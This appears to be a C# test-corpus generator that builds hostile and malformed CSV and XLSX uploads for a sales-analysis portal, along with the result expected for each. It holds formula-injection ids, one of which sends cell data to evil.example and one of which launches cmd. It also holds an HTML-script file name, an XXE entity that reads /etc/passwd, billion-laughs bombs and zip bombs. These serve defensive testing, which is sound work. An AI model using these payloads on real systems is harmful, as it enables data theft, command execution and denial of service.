using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Text;
using static ClvPortal.Tests.Web.Analyses.BadInput.RawXlsx;

namespace ClvPortal.Tests.Web.Analyses.BadInput;

/// <summary>
/// The bad input corpus: hostile and broken files, every one generated here from a seed, each with what
/// must become of it when uploaded through the portal. Expected results are computed from the sales the
/// generator wrote (<see cref="SucceedsWith.Kept"/>), never from the portal's own code.
/// </summary>
internal static class BadInputCorpus
{
    private const string Header = "customer_id,order_date,amount";

    private static readonly CultureInfo Invariant = CultureInfo.InvariantCulture;

    private static readonly string[] WorldNames =
    [
        "Zoë Ågren", "Jürgen Groß", "François Lefèvre", "Søren Ødegård", "Ñúñez & Hijos", "Œuvre €uro", "Ærø Café", "Bjørn Müller",
        "Łucja", "Ĳsbrand",
    ];

    static BadInputCorpus() => Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);

    public static IReadOnlyList<BadInputFile> All() =>
    [
        .. Encodings(),
        .. Layouts(),
        .. Formulas(),
        .. Dates(),
        .. Amounts(),
        .. CustomerIds(),
        .. EmptyAndTiny(),
        .. Sizes(),
        .. Workbooks(),
        .. WrongFormats(),
        .. Names(),
        .. Truncated(),
    ];

    private static IEnumerable<BadInputFile> Encodings()
    {
        // Names in Windows-1252's repertoire (Œ, € and Ø included), so every encoding below can hold them.
        var western = Shop(12, seed: 1, c => $"{WorldNames[c % 8]} {c}");
        yield return Succeeds("utf16-le-bom.csv", "UTF-16 little-endian with a byte-order mark (Excel's \"Unicode text\")",
            Encode(Csv(western), new UnicodeEncoding(false, true)), western);
        yield return Succeeds("utf16-be-bom.csv", "UTF-16 big-endian with a byte-order mark",
            Encode(Csv(western), new UnicodeEncoding(true, true)), western);
        yield return Succeeds("utf16-le-no-bom.csv", "UTF-16 without a byte-order mark: every other byte is zero",
            Encode(Csv(western), new UnicodeEncoding(false, false)), western);
        yield return Succeeds("windows-1252.csv", "Windows-1252 (what Excel on Windows saves as \"CSV\"), with €, Œ and accents",
            Encode(Csv(western), Encoding.GetEncoding(1252)), western);
        var bom = Shop(9, seed: 2);
        yield return Succeeds("utf8-bom.csv", "UTF-8 with a byte-order mark in front of the first header",
            Encode(Csv(bom, "Customer ID,Order Date,Amount"), new UTF8Encoding(true)), bom);

        // UTF-8 throughout, except two Windows-1252 bytes in a note: the names must still read as UTF-8.
        var world = Shop(10, seed: 3, c => $"{WorldNames[c % WorldNames.Length]} {c}");
        yield return Succeeds("utf8-invalid-bytes.csv", "UTF-8 names, and a note with bytes that are not valid UTF-8 (0xE9, 0xFF)",
            Bytes(() =>
            {
                var text = Csv(world, Header + ",note", extra: i => i % 4 == 1 ? ",caf\u0001" : ",ok");
                var bytes = Encoding.UTF8.GetBytes(text).Select(b => b == 0x01 ? (byte)0xE9 : b).ToList();
                bytes.AddRange(Encoding.UTF8.GetBytes("Bjørn Müller 99,2024-02-03,10.00,"));
                bytes.AddRange([0xFF, 0xFE]);
                bytes.AddRange(" junk\n"u8.ToArray());
                return [.. bytes];
            }),
            [.. world, new Sale("Bjørn Müller 99", new DateOnly(2024, 2, 3), 10.00)]);
    }

    private static IEnumerable<BadInputFile> Layouts()
    {
        var sales = Shop(15, seed: 7);
        var odd = sales.Select((s, i) => (s, i)).Where(x => x.i % 5 == 3 || x.i % 7 == 5).Select(x => x.s).ToHashSet();
        yield return new("mixed-delimiters.csv", "Comma-separated, but some rows use semicolons or tabs",
            Text(Csv(sales, row: (s, i, line) => odd.Contains(s) ? line.Replace(',', i % 2 == 0 ? ';' : '\t') : line)),
            new SucceedsWith(sales.Except(odd).ToList(), Rules(("malformed-row", odd.Count))));

        var european = Shop(10, seed: 8).Select((s, i) => i % 3 == 0 ? s with { Amount = Math.Round(s.Amount * 13, 2) } : s).ToList();
        yield return Succeeds("semicolon-decimal-comma.csv", "Semicolons, decimal commas with dots for thousands (1.234,56), dates as 24.07.2024",
            Text(Csv(european, "customer;date;amount", delimiter: ';', date: (d, _) => d.ToString("dd.MM.yyyy", Invariant), amount: DecimalComma)),
            european);

        var piped = Shop(8, seed: 9);
        yield return Succeeds("pipe-delimited.txt", "Pipe-separated text file with a \"total\" column", Text(Csv(piped, "customer|date|total", delimiter: '|')), piped);

        var ragged = Shop(12, seed: 10);
        yield return new("ragged-rows.csv", "Three rows with a field missing and three with one too many",
            Text(Csv(ragged, row: (_, i, line) => i switch
            {
                3 or 9 or 15 => line + "\nC900,2024-01-05",
                5 or 11 or 17 => line + "\nC901,2024-01-05,10.00,extra",
                _ => line,
            })),
            new SucceedsWith(ragged, Rules(("malformed-row", new[] { 3, 5, 9, 11, 15, 17 }.Count(i => i < ragged.Count)))));

        var concatenated = Shop(12, seed: 16);
        yield return new("concatenated-exports.csv", "Two exports pasted together: the header line appears again in the middle",
            Text(Csv(concatenated, row: (_, i, line) => i == 10 ? Header + "\n" + line : line)),
            new SucceedsWith(concatenated, Rules(("unparseable-date", 1))));

        var crlf = Shop(10, seed: 11);
        yield return Succeeds("crlf-line-endings.csv", "Windows line endings (CR LF)", Text(Csv(crlf, newline: "\r\n")), crlf);
        var cr = Shop(10, seed: 12);
        yield return Succeeds("cr-only-line-endings.csv", "Classic Mac line endings: a lone CR ends each line", Text(Csv(cr, newline: "\r")), cr);

        var quoted = Shop(10, seed: 13);
        yield return Succeeds("quoted-newlines.csv", "Quoted product names with commas, doubled quotes and line breaks inside",
            Text(Csv(quoted, Header + ",product", extra: i => i % 2 == 0 ? ",\"Mug, blue\nlarge \"\"XL\"\"\r\nsecond line\"" : ",Plain")), quoted);

        var unterminated = Shop(10, seed: 14);
        yield return new("unterminated-quote.csv", "A quote opened on line 9 and never closed",
            Text(Csv(unterminated, Header + ",product", extra: i => i == 7 ? ",\"Mug, blue" : ",Plain")),
            new FailsWithMessage("quote", "line 9"));

        var duplicated = Shop(10, seed: 15);
        yield return Succeeds("duplicate-headers.csv", "Two columns named \"amount\" and two named \"customer_id\": the first of each is read",
            Text(Csv(duplicated, Header + ",amount,customer_id", extra: i => $",{(i + 1) * 1000},someone-else-{i}")), duplicated);
    }

    private static IEnumerable<BadInputFile> Formulas()
    {
        string[] ids = ["=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click\")", "+SUM(A1:A9)", "-2+3", "@cmd|' /C calc'!A0", "=1+1"];
        var injected = ids.SelectMany((id, c) => new[]
        {
            new Sale(id, new DateOnly(2024, 1, 3 + c), 20 + c),
            new Sale(id, new DateOnly(2024, 5, 9 + c), 31.5 + c),
        }).ToList();
        yield return new("formula-injection.csv", "Customer ids that spreadsheets would run as formulas (= + - @), and an amount \"=10*10\"",
            Text(Csv(injected, row: (_, i, line) => i == 4 ? line + "\nplain-customer,2024-02-02,=10*10" : line)),
            new SucceedsWith(injected, Rules(("non-numeric-amount", 1)))
            {
                ExportContains = ["'=HYPERLINK(", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'=1+1"],
            });

        // Excel stores a formula with the value it last calculated; the value is what counts.
        var rows = new List<string[]> { new[] { Cell("customer"), Cell("date"), Cell("amount") } };
        var kept = new List<Sale>();
        for (var c = 1; c <= 6; c++)
        {
            var id = c == 6 ? "=HYPERLINK(\"http://evil.example\",\"x\")" : $"K{c}";
            for (var o = 0; o < 2; o++)
            {
                var date = new DateOnly(2024, 2 + (o * 4), c + 3);
                var amount = (c * 10) + 2.5 + o;
                rows.Add([Cell(id), DateCell(date.ToDateTime(new TimeOnly(10, 30))), FormulaCell($"{c * 10}+2.5+{o}", amount.ToString("R", Invariant))]);
                kept.Add(new Sale(id, date, amount));
            }
        }

        rows.Add([FormulaCell("CONCAT(\"K\",\"7\")", "K7", "str"), DateCell(new DateTime(2024, 3, 3)), Cell(70)]);
        kept.Add(new Sale("K7", new DateOnly(2024, 3, 3), 70));
        rows.Add([Cell("K8"), DateCell(new DateTime(2024, 3, 4)), FormulaCell("B9*C9", cached: null)]);
        rows.Add([Cell("K9"), DateCell(new DateTime(2024, 3, 5)), FormulaCell("1/0", "#DIV/0!", "e")]);
        yield return new("formulas.xlsx", "Formula cells: cached values, a formula string id, one never calculated, one #DIV/0! error",
            Bytes(() => Workbook(rows)), new SucceedsWith(kept, Rules(("missing-amount", 1), ("non-numeric-amount", 1))));
    }

    private static IEnumerable<BadInputFile> Dates()
    {
        var iso = Shop(10, seed: 20);
        string[] isoFormats = ["yyyy-MM-dd", "yyyy-MM-dd'T'HH:mm:ss", "yyyy-MM-dd HH:mm", "yyyy-MM-dd'T'HH:mm:ss'Z'", "yyyy-MM-dd'T'HH:mm:ss.fff'+02:00'"];
        yield return Succeeds("dates-iso-with-times.csv", "ISO 8601 dates with and without times, Z and offsets",
            Text(Csv(iso, date: (d, i) => At(d, i).ToString(isoFormats[i % isoFormats.Length], Invariant))), iso);

        var dayFirst = Shop(10, seed: 21);
        yield return Succeeds("dates-day-first.csv", "Day/month/year, with and without times (13/03/2024 09:15)",
            Text(Csv(dayFirst, date: (d, i) => At(d, i).ToString(i % 2 == 0 ? "dd/MM/yyyy HH:mm" : "d/M/yyyy", Invariant))), dayFirst);

        var monthFirst = Shop(10, seed: 22);
        yield return Succeeds("dates-month-first.csv", "Month/day/year, two-digit years and AM/PM times (3/13/24 2:30 PM)",
            Text(Csv(monthFirst, date: (d, i) => At(d, i).ToString(i % 2 == 0 ? "MM/dd/yyyy" : "M/d/yy h:mm tt", Invariant))), monthFirst);

        var named = Shop(10, seed: 23);
        string[] namedFormats = ["d MMM yyyy", "dd-MMM-yyyy", "\\\"MMMM d, yyyy\\\"", "MMM d yyyy HH:mm", "d MMMM yyyy"];
        yield return Succeeds("dates-month-names.csv", "English month names: 12 Mar 2024, 01-Dec-2023, \"March 12, 2024\"",
            Text(Csv(named, date: (d, i) => At(d, i).ToString(namedFormats[i % namedFormats.Length], Invariant))), named);

        var serial = Shop(10, seed: 24);
        yield return Succeeds("dates-excel-serials.csv", "Excel serial day numbers in a CSV, some with a time fraction (45363.604)",
            Text(Csv(serial, date: (d, i) => (i % 2 == 0 ? Serial(d.ToDateTime(TimeOnly.MinValue)) : Serial(Daytime(d, i))).ToString(i % 2 == 0 ? "0" : "0.000", Invariant))), serial);

        // Four formats that agree (ISO, ISO with time, month names, day/month/year) and a few bare serial numbers,
        // which a column of written dates does not vouch for: those rows are counted as unreadable.
        var mixed = Shop(12, seed: 25);
        string[] mixedFormats = ["yyyy-MM-dd", "d MMM yyyy", "dd/MM/yyyy", "yyyy-MM-dd HH:mm:ss"];
        var serialRows = new[] { 2, 9, 16 };
        yield return new("dates-five-formats.csv", "One column mixing ISO, ISO with times, 12 Mar 2024, 13/03/2024 and Excel serial numbers",
            Text(Csv(mixed, date: (d, i) => serialRows.Contains(i)
                ? Serial(d.ToDateTime(TimeOnly.MinValue)).ToString("0", Invariant)
                : At(d, i).ToString(mixedFormats[i % mixedFormats.Length], Invariant))),
            new SucceedsWith(mixed.Where((_, i) => !serialRows.Contains(i)).ToList(), Rules(("unparseable-date", serialRows.Count(i => i < mixed.Count)))));

        var future = Shop(10, seed: 26);
        yield return new("future-dates.csv", "Three purchases dated 2099 and 2187: typing errors, not sales",
            Text(Csv(future, row: (s, i, line) => i switch
            {
                1 => line + $"\n{s.Customer},2099-01-01,50.00",
                4 => line + $"\n{s.Customer},2099-12-31,75.00",
                6 => line + $"\n{s.Customer},2187-07-04,99.99",
                _ => line,
            })),
            new SucceedsWith(future, Rules(("future-date", 3))));

        var textDates = Shop(10, seed: 28);
        yield return Succeeds("workbook-text-dates.xlsx", "A workbook whose dates and amounts are text cells: 13/03/2024 and \"£1,234.50\"",
            Bytes(() => Workbook(
                [[Cell("Customer"), Cell("Date"), Cell("Total")], .. textDates.Select(s => new[] { Cell(s.Customer), Cell(s.Date.ToString("dd/MM/yyyy", Invariant)), Cell(s.Amount.ToString("£#,##0.00", Invariant)) })])),
            textDates);

        var sheet1904 = Shop(10, seed: 27);
        yield return Succeeds("workbook-1904.xlsx", "A workbook in the 1904 date system (Excel for Mac): serials count from 1904-01-01",
            Bytes(() => Workbook(
                [[Cell("CustomerID"), Cell("InvoiceDate"), Cell("Amount")], .. sheet1904.Select((s, i) => new[] { Cell(s.Customer), DateCell(At(s.Date, i), date1904: true), Cell(s.Amount) })],
                date1904: true)),
            sheet1904);
    }

    private static IEnumerable<BadInputFile> Amounts()
    {
        var refunds = Shop(8, seed: 30).Select(s => s with { Amount = -s.Amount }).ToList();
        yield return new("all-negative-amounts.csv", "Every amount negative: a file of refunds only",
            Text(Csv(refunds)), new FailsWithMessage("return"));

        // Quantity x price with returns (negative quantities) and cancelled invoices ("C" numbers) netted.
        var random = new Random(31);
        var lines = new StringBuilder("InvoiceNo,CustomerID,InvoiceDate,Quantity,UnitPrice\n");
        var kept = new List<Sale>();
        int returns = 0, cancelled = 0, invoice = 500000;
        for (var c = 1; c <= 12; c++)
        {
            for (var o = 0; o < 3; o++)
            {
                var date = new DateOnly(2023, 3, 1).AddDays((c * 17) + (o * 90));
                var quantity = 1 + random.Next(5);
                var price = Math.Round(1 + (random.NextDouble() * 30), 2);
                var (number, q) = (c % 4, o) switch
                {
                    (0, 2) => ($"C{invoice++}", -quantity),
                    (1, 2) => ($"{invoice++}", -quantity),
                    _ => ($"{invoice++}", quantity),
                };
                lines.Append(Invariant, $"{number},{12000 + c},{date:MM/dd/yyyy} 10:{o:D2},{q},{price.ToString("0.00", Invariant)}\n");
                kept.Add(new Sale($"{12000 + c}", date, q * price));
                returns += number[0] != 'C' && q < 0 ? 1 : 0;
                cancelled += number[0] == 'C' ? 1 : 0;
            }
        }

        yield return new("negative-quantities.csv", "Quantity and unit price columns with returns (negative quantities) and cancelled invoices",
            Text(lines.ToString()), new SucceedsWith(kept, Rules(("returns", returns), ("cancelled-invoice", cancelled))));

        var cancellations = new StringBuilder("InvoiceNo,CustomerID,InvoiceDate,Quantity,UnitPrice\n");
        for (var i = 0; i < 20; i++)
        {
            cancellations.Append(Invariant, $"C{581000 + i},{13000 + (i % 6)},2024-0{1 + (i % 9)}-1{i % 10},{1 + (i % 3)},4.95\n");
        }

        yield return new("cancellations-only.csv", "Only cancelled invoices (every number starts with C)", Text(cancellations.ToString()), new FailsWithMessage("cancellation"));

        var zero = Shop(8, seed: 32);
        yield return new("zero-amounts.csv", "Every amount is 0.00 (the wrong column exported, or free orders only)",
            Text(Csv(zero, amount: _ => "0.00")), new FailsWithMessage("zero"));

        // Currency signs, thousands separators and accounting-style negatives in parentheses (refunds).
        var money = Shop(10, seed: 34).Select((s, i) => i % 5 == 4 ? s with { Amount = -Math.Round(s.Amount / 4, 2) } : s with { Amount = s.Amount * (i % 3 == 0 ? 10 : 1) }).ToList();
        string[] styles = ["${0:#,##0.00}", "€{0:0.00}", "{0:0.00} €", "£{0:#,##0.00}"];
        yield return new("currency-and-accounting-amounts.csv", "Amounts like $1,234.56, €12.50, 12.50 € and (5.00) for a refund",
            Text(Csv(money, amount: a => a < 0
                ? $"({(-a).ToString("0.00", Invariant)})"
                : string.Format(Invariant, styles[(int)(a * 100) % styles.Length], a))),
            new SucceedsWith(money, Rules(("returns", money.Count(s => s.Amount < 0)))));

        var numbers = Shop(10, seed: 33);
        string[] notNumbers = ["NaN", "Infinity", "-Infinity", "∞"];
        string[] absurd = ["1e308", "-1e308", "1.7976931348623157E+308", "1e300"];
        yield return new("nan-infinity-1e308.csv", "Amounts NaN, Infinity, -Infinity, ∞, 1e308 and 1.79E+308 among normal ones",
            Text(Csv(numbers, row: (s, i, line) => i < notNumbers.Length + absurd.Length
                ? line + $"\n{s.Customer},{s.Date:yyyy-MM-dd},{(i < notNumbers.Length ? notNumbers[i] : absurd[i - notNumbers.Length])}"
                : line)),
            new SucceedsWith(numbers, Rules(("non-numeric-amount", notNumbers.Length), ("implausible-amount", absurd.Length))));
    }

    private static IEnumerable<BadInputFile> Names()
    {
        var longName = Shop(6, seed: 90);
        yield return Succeeds(new string('q', 236) + ".csv", "A file name of 240 characters (the name is shortened for display, its type must survive)",
            Text(Csv(longName)), longName);
        var markup = Shop(6, seed: 91);
        yield return Succeeds("<img src=x onerror=alert(1)>.csv", "A file name that is HTML: it must be shown as text, never run",
            Text(Csv(markup)), markup);
    }

    private static IEnumerable<BadInputFile> CustomerIds()
    {
        var nobody = Shop(8, seed: 40);
        yield return new("empty-customer-ids.csv", "The customer id column is there, but empty on every row",
            Text(Csv(nobody, row: (s, _, line) => line[s.Customer.Length..])), new FailsWithMessage("customer id"));

        var guests = Shop(10, seed: 41);
        yield return new("guest-checkouts.csv", "Some rows without a customer id (guest checkouts), one of them only spaces",
            Text(Csv(guests, row: (s, i, line) => i % 6 == 2 ? line + $"\n{(i % 12 == 2 ? "   " : "")},{s.Date:yyyy-MM-dd},12.00" : line)),
            new SucceedsWith(guests, Rules(("missing-customer-id", guests.Where((_, i) => i % 6 == 2).Count()))));

        var longIds = Shop(8, seed: 42);
        var monster = "X" + new string('9', 300_000);
        yield return new("very-long-customer-id.csv", "Two rows whose customer id is 300,001 characters long",
            Text(Csv(longIds, row: (s, i, line) => i is 2 or 5 ? line + $"\n{monster},{s.Date:yyyy-MM-dd},12.00" : line)),
            new SucceedsWith(longIds, Rules(("customer-id-too-long", 2))));

        var single = new List<Sale> { new("only-one", new DateOnly(2023, 4, 2), 25), new("only-one", new DateOnly(2023, 9, 14), 40.5), new("only-one", new DateOnly(2024, 2, 29), 12.25) };
        yield return Succeeds("one-customer.csv", "A single customer with three purchases", Text(Csv(single)), single);

        var nul = Shop(6, seed: 43);
        yield return new("null-bytes.csv", "Text with NUL bytes inside a customer name",
            Text(Csv(nul, row: (_, i, line) => i == 2 ? line.Insert(2, "\0\0") : line)), new RefusedAtUpload(HttpStatusCode.BadRequest, "binary"));
    }

    private static IEnumerable<BadInputFile> EmptyAndTiny()
    {
        yield return new("empty.csv", "Zero bytes", Text(""), new RefusedAtUpload(HttpStatusCode.BadRequest, "empty"));
        yield return new("whitespace-only.csv", "Only spaces, tabs and line breaks", Text("   \r\n\t\n    \n"), new FailsWithMessage("empty"));
        yield return new("bom-only.csv", "Nothing but a UTF-8 byte-order mark", Bytes(() => [0xEF, 0xBB, 0xBF]), new FailsWithMessage("empty"));
        yield return new("header-only.csv", "Column headers and no rows", Text(Header + "\n"), new FailsWithMessage("no transaction rows"));
        var one = new List<Sale> { new("solo", new DateOnly(2024, 6, 1), 19.99) };
        yield return Succeeds("one-row.csv", "One purchase of one customer", Text(Csv(one)), one);
    }

    private static IEnumerable<BadInputFile> Sizes()
    {
        var blank = Shop(10, seed: 50);
        yield return Succeeds("three-million-blank-lines.csv", "Half the rows, 3,000,000 blank lines, the other half",
            Generated(() => Split(blank, Encoding.UTF8.GetBytes("\n"), 3_000_000)), blank);

        var commas = Shop(10, seed: 51);
        yield return Succeeds("two-million-empty-rows.csv", "Half the rows, 2,000,000 rows of empty cells (\",,\"), the other half",
            Generated(() => Split(commas, Encoding.UTF8.GetBytes(",,\r\n"), 2_000_000)), commas);

        var late = Shop(10, seed: 52);
        yield return new("empty-rows-before-data.csv", "1,500,000 rows of empty cells between the header and the first sale",
            Generated(() => Split(late, Encoding.UTF8.GetBytes(",,\n"), 1_500_000, before: 0)), new FailsWithMessage("empty rows"));

        yield return new("huge-cell.csv", "A 20 MB field on line 2", Generated(() =>
        [
            Encoding.UTF8.GetBytes(Header + ",note\nC1,2024-01-01,10.00,"),
            .. ChunkStream.Repeat("lorem ipsum dolor sit amet "u8.ToArray(), (20 << 20) / 27),
            Encoding.UTF8.GetBytes("\nC2,2024-01-02,20.00,short\n"),
        ]), new FailsWithMessage("line 2", "longer than"));

        var wordy = Shop(10, seed: 53);
        yield return Succeeds("huge-cell.xlsx", "A workbook with a 16 MB note in one cell", Bytes(() => Workbook(stream =>
        {
            stream.Write(Encoding.UTF8.GetBytes(Sheet([[Cell("customer"), Cell("date"), Cell("amount"), Cell("note")]]).Replace(SheetEnd, "", StringComparison.Ordinal)));
            var r = 1;
            foreach (var s in wordy)
            {
                r++;
                stream.Write(Encoding.UTF8.GetBytes($"<row r=\"{r}\"><c r=\"A{r}\" t=\"inlineStr\"><is><t>{s.Customer}</t></is></c><c r=\"B{r}\" s=\"1\"><v>{Serial(s.Date.ToDateTime(TimeOnly.MinValue)).ToString("R", Invariant)}</v></c><c r=\"C{r}\"><v>{s.Amount.ToString("R", Invariant)}</v></c>"));
                if (r == 3)
                {
                    stream.Write("<c r=\"D3\" t=\"inlineStr\"><is><t>"u8);
                    var random = new Random(53);
                    string[] words = ["invoice ", "paid ", "late ", "returned ", "gift ", "promo ", "carrier ", "box "];
                    var text = new StringBuilder();
                    for (var i = 0; i < 2_200_000; i++)
                    {
                        text.Append(words[random.Next(words.Length)]);
                    }

                    stream.Write(Encoding.UTF8.GetBytes(text.ToString()));
                    stream.Write("</t></is></c>"u8);
                }

                stream.Write("</row>"u8);
            }

            stream.Write(Encoding.UTF8.GetBytes(SheetEnd));
        })), wordy);

        var sparse = Shop(10, seed: 54);
        yield return Succeeds("million-empty-rows.xlsx", "A workbook whose sheet has 1,000,000 empty rows between its sales", Bytes(() => Workbook(stream =>
        {
            stream.Write(Encoding.UTF8.GetBytes(SheetStart() + "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Customer ID</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>Order Date</t></is></c><c r=\"C1\" t=\"inlineStr\"><is><t>Total</t></is></c></row>"));
            var r = 1;
            for (var i = 0; i < sparse.Count; i++)
            {
                if (i == sparse.Count / 2)
                {
                    for (var e = 0; e < 1_000_000; e++)
                    {
                        r++;
                        stream.Write(Encoding.UTF8.GetBytes($"<row r=\"{r}\" spans=\"1:3\"/>"));
                    }
                }

                r++;
                var s = sparse[i];
                stream.Write(Encoding.UTF8.GetBytes($"<row r=\"{r}\"><c r=\"A{r}\" t=\"inlineStr\"><is><t>{s.Customer}</t></is></c><c r=\"B{r}\" s=\"1\"><v>{Serial(s.Date.ToDateTime(TimeOnly.MinValue)).ToString("R", Invariant)}</v></c><c r=\"C{r}\"><v>{s.Amount.ToString("R", Invariant)}</v></c></row>"));
            }

            stream.Write(Encoding.UTF8.GetBytes(SheetEnd));
        })), sparse);
    }

    private static IEnumerable<BadInputFile> Workbooks()
    {
        var header = new[] { Cell("customer"), Cell("date"), Cell("amount") };
        var first = new[] { Cell("K1"), DateCell(new DateTime(2024, 1, 2)), Cell(10) };

        yield return new("zip-bomb.xlsx", "A 150 MB worksheet of empty rows deflated to a few hundred KB", Bytes(() => Workbook(stream =>
        {
            stream.Write(Encoding.UTF8.GetBytes(Sheet([header, first]).Replace(SheetEnd, "", StringComparison.Ordinal)));
            foreach (var chunk in ChunkStream.Repeat("<row/>"u8.ToArray(), 25_000_000))
            {
                stream.Write(chunk.Span);
            }

            stream.Write(Encoding.UTF8.GetBytes(SheetEnd));
        })), new FailsWithMessage("zip bomb"));

        // The zip reader stops at the size the headers state, so this one never inflates: the sheet just ends too soon.
        yield return new("zip-bomb-lying-sizes.xlsx", "A 30 MB worksheet whose zip headers claim it unpacks to 5,000 bytes",
            Bytes(() => ClaimSize(Workbook(stream =>
            {
                stream.Write(Encoding.UTF8.GetBytes(Sheet([header, first]).Replace(SheetEnd, "", StringComparison.Ordinal)));
                foreach (var chunk in ChunkStream.Repeat("<row/>"u8.ToArray(), 5_000_000))
                {
                    stream.Write(chunk.Span);
                }

                stream.Write(Encoding.UTF8.GetBytes(SheetEnd));
            }), SheetPath, 5_000)),
            new FailsWithMessage("damaged"));

        // "Billion laughs": ten entities of ten references each, nested nine deep, expand to 10^9 "lol"s.
        var laughs = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        laughs.Append("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">");
        for (var i = 2; i <= 9; i++)
        {
            laughs.Append(Invariant, $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">");
        }

        var doctype = laughs.Append("]>").ToString();
        yield return new("entity-bomb-in-sheet.xlsx", "Billion-laughs XML entity bomb in the worksheet",
            Bytes(() => Workbook(Xml(Sheet([header, [Cell("K1").Replace("K1", "&lol9;", StringComparison.Ordinal), DateCell(new DateTime(2024, 1, 2)), Cell(10)]], doctype)))),
            new FailsWithMessage("entity"));
        yield return new("entity-bomb-in-shared-strings.xlsx", "Billion-laughs XML entity bomb in the shared strings table",
            Bytes(() => Workbook(Xml(Sheet([header, [SharedCell(0), DateCell(new DateTime(2024, 1, 2)), Cell(10)]])), SharedStrings(doctype, "&lol9;"))),
            new FailsWithMessage("entity"));
        yield return new("external-entity.xlsx", "An XML external entity pointing at /etc/passwd (XXE)",
            Bytes(() => Workbook(Xml(Sheet([header, [Cell("K1").Replace("K1", "&xxe;", StringComparison.Ordinal), DateCell(new DateTime(2024, 1, 2)), Cell(10)]],
                "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>")))),
            new FailsWithMessage("entity"));

        var cut = Shop(30, seed: 60);
        yield return new("truncated.xlsx", "A workbook cut off after 60% of its bytes (an interrupted download)",
            Bytes(() =>
            {
                var whole = Workbook([header, .. cut.Select(s => new[] { Cell(s.Customer), DateCell(s.Date.ToDateTime(TimeOnly.MinValue)), Cell(s.Amount) })]);
                return whole[..(whole.Length * 6 / 10)];
            }),
            new FailsWithMessage("damaged or incomplete"));

        yield return new("zip-of-a-csv.xlsx", "A zip archive holding a CSV, named .xlsx",
            Bytes(() => Zip([("orders.csv", Xml(Csv(Shop(5, seed: 61))))])), new FailsWithMessage("not an Excel workbook", "Unzip"));
    }

    private static IEnumerable<BadInputFile> WrongFormats()
    {
        var csv = Csv(Shop(10, seed: 70));
        yield return new("csv-renamed.xlsx", "A CSV file renamed to .xlsx", Text(csv), new RefusedAtUpload(HttpStatusCode.BadRequest, "text", "rename it to .csv"));
        yield return new("xlsx-renamed.csv", "A workbook renamed to .csv",
            Bytes(() => Workbook([[Cell("customer"), Cell("date"), Cell("amount")], [Cell("K1"), DateCell(new DateTime(2024, 1, 2)), Cell(10)]])),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "Rename it to .xlsx"));
        yield return new("not-a-zip.xlsx", "Random bytes named .xlsx", Bytes(() => Random(71, 20_000, [0x13, 0x37])),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "not an Excel workbook"));
        yield return new("png-renamed.csv", "A PNG image renamed to .csv", Bytes(() => Random(72, 5_000, [0x89, .. "PNG\r\n\u001a\n"u8, 0, 0, 0, 13, .. "IHDR"u8])),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "PNG image"));
        yield return new("pdf-renamed.xlsx", "A PDF renamed to .xlsx", Text("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "PDF"));
        yield return new("program-renamed.csv", "A Windows program (MZ/PE header) renamed to .csv", Bytes(Program),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "program"));
        yield return new("gzip-renamed.csv", "A gzip-compressed CSV still named .csv", Bytes(() =>
        {
            using var memory = new MemoryStream();
            using (var gzip = new GZipStream(memory, CompressionLevel.Optimal, leaveOpen: true))
            {
                gzip.Write(Encoding.UTF8.GetBytes(csv));
            }

            return memory.ToArray();
        }), new RefusedAtUpload(HttpStatusCode.BadRequest, "gzip"));
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        yield return new("old-excel.xls", "An Excel 97-2003 workbook (OLE compound file)", Bytes(() => [.. ole, .. Random(73, 8_000, [])]),
            new RefusedAtUpload(HttpStatusCode.BadRequest, ".xls", "Save"));
        yield return new("password-protected.xlsx", "A password-protected workbook: Excel wraps it in an OLE compound file", Bytes(() => [.. ole, .. Random(74, 8_000, [])]),
            new RefusedAtUpload(HttpStatusCode.BadRequest, "password"));
    }

    /// <summary>Uploads that end before the whole file arrived: nothing of them may stay stored.</summary>
    private static IEnumerable<BadInputFile> Truncated()
    {
        var bytes = Encoding.UTF8.GetBytes(Csv(Shop(24_000, seed: 80)));
        yield return new("truncated-upload.csv", $"The request body ends after 60% of a {bytes.Length / 1024:N0} KB file, without the form's closing boundary",
            () => new ChunkStream([bytes]), new RefusedAtUpload(HttpStatusCode.BadRequest, "broke off"))
        {
            BodyCutAt = 0.6,
        };
        yield return new("connection-dropped.csv", $"The connection drops after 600 KB of a {bytes.Length / 1024:N0} KB file",
            () => new ChunkStream([bytes], failAfterBytes: 600_000), new BreaksOff());
    }

    /// <summary>
    /// A shop's sales: each customer buys 1 to 4 times between 2023-01-02 and mid 2024, 5.00 to 200.00 each.
    /// No two rows alike, so no duplicate rule applies.
    /// </summary>
    private static List<Sale> Shop(int customers, int seed, Func<int, string>? id = null)
    {
        var random = new Random(seed);
        var start = new DateOnly(2023, 1, 2);
        var sales = new List<Sale>();
        for (var c = 1; c <= customers; c++)
        {
            var name = id?.Invoke(c) ?? $"C{seed:D2}{c:D4}";
            var orders = 1 + random.Next(4);
            var days = new HashSet<int>();
            for (var o = 0; o < orders; o++)
            {
                var day = random.Next(560);
                if (days.Add(day))
                {
                    sales.Add(new Sale(name, start.AddDays(day), Math.Round(5 + (random.NextDouble() * 195), 2)));
                }
            }
        }

        return sales;
    }

    /// <summary>A time of day for row <paramref name="row"/>: the day stays the sale's, whatever the format.</summary>
    private static DateTime At(DateOnly date, int row) => date.ToDateTime(new TimeOnly((row * 7) % 24, (row * 13) % 60, row % 60));

    /// <summary>A time between 09:00 and 17:59, so a serial rounded to three decimals stays on its day.</summary>
    private static DateTime Daytime(DateOnly date, int row) => date.ToDateTime(new TimeOnly(9 + (row % 9), (row * 13) % 60));

